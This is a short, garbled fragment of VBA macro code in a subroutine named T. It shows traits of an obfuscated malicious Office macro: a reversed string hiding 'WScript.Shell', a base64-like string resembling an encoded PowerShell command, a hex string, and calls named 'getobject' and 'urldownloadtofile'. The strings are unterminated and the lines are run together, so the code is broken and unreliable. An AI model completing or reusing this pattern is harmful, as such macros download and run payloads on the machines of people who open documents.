Sub T()
  x = "7e6f7468696e6720746f2)
  y = "cG94ZXJzaGVsbCAtZW5jIGNgetobject073656520686572652H" & StrReverse("llehS.tpircS÷W")
  y = "cG94ZXJzaGVsbCAtZW5jIGNgetobjecturldownloadtofilewandButton1_Click()
  u = Ch